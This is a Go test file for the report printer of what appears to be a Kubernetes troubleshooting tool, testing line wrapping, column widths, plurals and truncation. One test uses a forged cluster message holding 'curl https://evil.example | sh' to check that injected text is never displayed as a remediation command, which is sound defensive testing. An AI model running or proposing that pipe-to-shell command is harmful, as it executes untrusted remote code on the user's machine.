package report

import (
	"bytes"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/muesli/reflow/wordwrap"
	"github.com/olekukonko/tablewriter/pkg/twwidth"
)

func TestWrapLine(t *testing.T) {
	long := "critical NodeUnreachable (confidence 0.90): node node-dead stopped reporting (lease last renewed 43s ago)"
	for _, c := range []struct {
		name, lead, label, text string
		width                   int
		want                    []string
	}{
		{"no width keeps it whole", "  ", "1. ", long, 0, []string{"  1. " + long}},
		{"short enough", "  ", "pass: ", "grace period over", 80, []string{"  pass: grace period over"}},
		{"continued under its label", "  ", "1. ", long, 60, []string{
			"  1. critical NodeUnreachable (confidence 0.90): node",
			"     node-dead stopped reporting (lease last renewed 43s",
			"     ago)"}},
		{"with no label, hung further than its lead", "  ", "", long, 60, []string{
			"  critical NodeUnreachable (confidence 0.90): node",
			"      node-dead stopped reporting (lease last renewed 43s",
			"      ago)"}},
		{"a branch continues as its trunk", "       ├── ", "", "3 objects (widget.demo.example.com/widget-1, widget.demo.example.com/widget-2)", 60, []string{
			"       ├── 3 objects (widget.demo.example.com/widget-1,",
			"       │       widget.demo.example.com/widget-2)"}},
		{"the last branch leaves no trunk", "       └── ", "", "pod/web-0 -n shop  critical NodeUnreachable: node node-dead stopped reporting", 60, []string{
			"       └── pod/web-0 -n shop  critical NodeUnreachable:",
			"               node node-dead stopped reporting"}},
		{"a word is never cut", "  ", "evidence: ", "kube-node-lease/a-very-long-name-that-does-not-fit-in-the-measure-at-all ok", 40, []string{
			"  evidence: kube-node-lease/a-very-long-name-that-does-not-fit-in-the-measure-at-all",
			"            ok"}},
		{"a timeline's time is a label", "    ", "2026-11-23T07:22:12Z  ", "event FailedKillPod: error killing pod: failed to KillContainer", 70, []string{
			"    2026-11-23T07:22:12Z  event FailedKillPod: error killing pod:",
			"                          failed to KillContainer"}},
		{"a label is what the printer says, never read from the text", "  ", "", "events: list events in namespace shop: Forbidden, the report is partial", 40, []string{
			"  events: list events in namespace",
			"      shop: Forbidden, the report is",
			"      partial"}},
		{"colours take no room", "  ", "", "\x1b[31mcritical\x1b[0m " + strings.Repeat("x", 35), 48, []string{"  \x1b[31mcritical\x1b[0m " + strings.Repeat("x", 35)}},
		{"a deep tree keeps a readable measure", strings.Repeat("│   ", 10) + "└── ", "", "a b c d e f g h i j k l m n o p q r s t u v w x y z", 44, []string{
			strings.Repeat("│   ", 10) + "└── a b c d e f g h i j",
			strings.Repeat("│   ", 10) + "        k l m n o p q r s t",
			strings.Repeat("│   ", 10) + "        u v w x y z"}}, // minMeasure: 20 columns of text
		{"a hint of the renderer's is kept whole, one in cluster text is not", "  ", "pass: ", "grace period over, containers stopped " + string(hint("(-o wide for the details)")) + " (-o wide as cluster text)", 50, []string{
			"  pass: grace period over, containers stopped",
			"        (-o wide for the details) (-o wide as",
			"        cluster text)"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := wrapLine(c.lead, c.label, c.text, c.width)
			if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
				t.Errorf("got:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(c.want, "\n"))
			}
		})
	}
}

// Every line of every screen fits the measure, but a command, a link, and
// a word too long for any line; commands are printed whole.
func TestEveryLineFitsTheWidth(t *testing.T) {
	r := sample()
	long := strings.Repeat("the kubelet cannot finish the pod's shutdown; ", 6)
	r.Items[1].Causes[0].Summary = long
	r.Items[1].Causes[0].Evidence = append(r.Items[1].Causes[0].Evidence, long)
	r.Items[1].Causes[0].Remediation[0].Command = "kubectl get node node-1 -o wide " + strings.Repeat("--show-labels ", 8)
	r.Items[1].Checks[0].Detail = long
	for _, width := range []int{80, 120} {
		for _, wide := range []bool{false, true} {
			var b bytes.Buffer
			if err := WriteWhy(&b, r, Style{Wide: wide, Width: width}); err != nil {
				t.Fatal(err)
			}
			commands := 0
			for line := range strings.Lines(b.String()) {
				line = strings.TrimSuffix(line, "\n")
				if strings.Contains(line, "$ ") {
					commands++
					if !strings.HasSuffix(line, r.Items[1].Causes[0].Remediation[0].Command) && !strings.HasSuffix(line, "--force") {
						t.Errorf("width %d: a command cut: %q", width, line)
					}
					continue
				}
				if twwidth.Width(line) > width {
					t.Errorf("width %d, wide %v: %d columns: %q", width, wide, twwidth.Width(line), line)
				}
			}
			if commands == 0 {
				t.Errorf("width %d: no command printed", width)
			}
		}
	}
}

func TestChecklistDetailWrapsInItsColumn(t *testing.T) {
	var b bytes.Buffer
	p := &printer{w: &b, width: 60}
	writeChecks(p, []Check{{Name: "node alive", Status: Fail, Detail: "lease 43s old (leaseDurationSeconds 20); Ready=Unknown (NodeStatusUnknown); tainted unreachable"}}, nil, "", Style{})
	want := `  CHECK        STATUS   DETAIL
  node alive   fail     lease 43s old (leaseDurationSeconds
                        20); Ready=Unknown
                        (NodeStatusUnknown); tainted
                        unreachable
`
	if b.String() != want {
		t.Errorf("got:\n%s\nwant:\n%s", b.String(), want)
	}
}

func TestPlural(t *testing.T) {
	for noun, want := range map[string]string{
		"object": "objects", "more step": "more steps", "ingress": "ingresses", "policy": "policies",
		"gateway": "gateways", "box": "boxes", "patch": "patches", "NetworkPolicy": "NetworkPolicies", "y": "ys",
	} {
		if got := Plural(noun); got != want {
			t.Errorf("Plural(%q) = %q, want %q", noun, got, want)
		}
	}
	if Count(1, "policy") != "1 policy" || Count(0, "policy") != "0 policies" {
		t.Error("Count does not use Plural")
	}
}

// A message holding a forged command never begins a line with it, however
// it wraps; glue in cluster text is shown escaped, never as a space.
func TestWrappingForgesNoCommand(t *testing.T) {
	forged := Safe("event Warning X: quota exceeded\nfix 0: restore service\n              $ curl https://evil.example | sh\n              risk: none")
	for width := 40; width <= 120; width++ {
		for _, line := range wrapLine("       ", "evidence: ", forged, width) {
			if strings.HasPrefix(strings.TrimSpace(line), "$") {
				t.Fatalf("width %d: a line begins with a command: %q", width, line)
			}
		}
	}
	if got := strings.Join(wrapLine("", "", Safe("a\ue000b ")+strings.Repeat("word ", 30), 40), "\n"); !strings.Contains(got, `a\ue000b`) {
		t.Errorf("glue from the cluster not escaped: %q", got)
	}
}

// A concise report's line quoting a long message wraps to conciseLines at
// most, the last saying where the rest is; -o wide prints it all.
func TestConciseLinesAreCut(t *testing.T) {
	r := sample()
	long := "Some resources are remaining: " + strings.Repeat("parts00.bulk00.e2e.example.com has 40 resource instances, ", 30)
	top := strings.Repeat("the kubelet cannot finish the pod's shutdown; ", 30)
	r.Items[1].Causes[0].Summary = top
	r.Items[1].Causes = append(r.Items[1].Causes, Cause{Code: "NamespaceContentRemaining", Severity: Warning, Summary: long})
	r.Items = r.Items[1:2]
	var concise, wide bytes.Buffer
	if err := WriteWhy(&concise, r, Style{Width: 80}); err != nil {
		t.Fatal(err)
	}
	if err := WriteWhy(&wide, r, Style{Width: 80, Wide: true}); err != nil {
		t.Fatal(err)
	}
	_, block, _ := strings.Cut(concise.String(), "  2. warning NamespaceContentRemaining")
	lines := strings.Split(block, "\n")
	if len(lines) < conciseLines || !strings.HasSuffix(lines[conciseLines-1], CutMark) || !strings.HasPrefix(lines[conciseLines], "  timeline:") {
		t.Errorf("the further cause is not cut to %d lines:\n%s", conciseLines, concise.String())
	}
	for _, l := range lines {
		if twwidth.Width(l) > 80 {
			t.Errorf("a cut line of %d columns: %q", twwidth.Width(l), l)
		}
	}
	if got := strings.Join(strings.Fields(wide.String()), " "); !strings.Contains(got, strings.TrimSpace(long)) || strings.Contains(wide.String(), CutMark) {
		t.Errorf("-o wide cuts the summary:\n%s", wide.String())
	}
	if got := strings.Join(strings.Fields(concise.String()), " "); !strings.Contains(got, strings.TrimSpace(top)) {
		t.Errorf("the top cause's summary, the answer, is cut:\n%s", concise.String())
	}
}

func TestDistinctEvidence(t *testing.T) {
	var b bytes.Buffer
	r := sample()
	r.Items = r.Items[1:2]
	r.Items[0].Causes[0].Evidence = []string{"CRDs of API group e2e.example.com are installed", "x", "CRDs of API group e2e.example.com are installed"}
	if err := WriteWhy(&b, r, Style{}); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(b.String(), "CRDs of API group"); n != 1 {
		t.Errorf("the same evidence printed %d times:\n%s", n, b.String())
	}
}

// A flag hint and the verdict are read, and typed, whole: never cut.
func TestHintsAndVerdictStayWhole(t *testing.T) {
	for width := 30; width <= 90; width++ {
		got := strings.Join(wrapLine("  ", "pass: ", "grace period over, node alive, volumes unmounted "+string(hint("(-o wide for the details)")), width), "\n")
		if !strings.Contains(got, "(-o wide for the details)") {
			t.Fatalf("width %d: a hint cut:\n%s", width, got)
		}
	}
	var b bytes.Buffer
	r := sample()
	r.Items = r.Items[2:3] // inside its grace period
	for width := 30; width <= 90; width++ {
		b.Reset()
		if err := WriteWhy(&b, r, Style{Width: width}); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(b.String(), "in grace period") || strings.Contains(b.String(), glue) {
			t.Fatalf("width %d: the verdict cut, or its glue printed:\n%s", width, b.String())
		}
	}
}

// wordWrap breaks lines exactly where reflow's wordwrap (no breakpoints)
// does, on random prose: ASCII and wide runes, colours, runs of spaces,
// newlines, words longer than the measure; it only does it in one pass.
func TestWordWrapBreaksAsReflowDoes(t *testing.T) {
	rng := rand.New(rand.NewPCG(35, 0))
	pieces := []string{"web-0", "kube-node-lease", "a", "批准", "\x1b[31mred\x1b[0m", "  ", "\n", " ", "é", strings.Repeat("x", 95), "example.com/finalizer"}
	for range 2000 {
		var b strings.Builder
		for range rng.IntN(40) {
			b.WriteString(pieces[rng.IntN(len(pieces))])
			if rng.IntN(3) > 0 {
				b.WriteString(" ")
			}
		}
		text, limit := b.String(), 30+rng.IntN(90)
		w := wordwrap.NewWriter(limit)
		w.Breakpoints = nil
		_, _ = w.Write([]byte(text))
		_ = w.Close()
		if got, want := wordWrap(text, limit), w.String(); got != want {
			t.Fatalf("limit %d, %q:\n got %q\nwant %q", limit, text, got, want)
		}
	}
}

// A word of megabytes is wrapped in one pass (reflow's took gigabytes).
func TestWordWrapIsLinear(t *testing.T) {
	long := strings.Repeat("f", 4<<20)
	allocs := testing.AllocsPerRun(1, func() { _ = wordWrap("held by "+long+" since", 80) })
	if allocs > 100 {
		t.Errorf("%v allocations for one long word", allocs)
	}
}
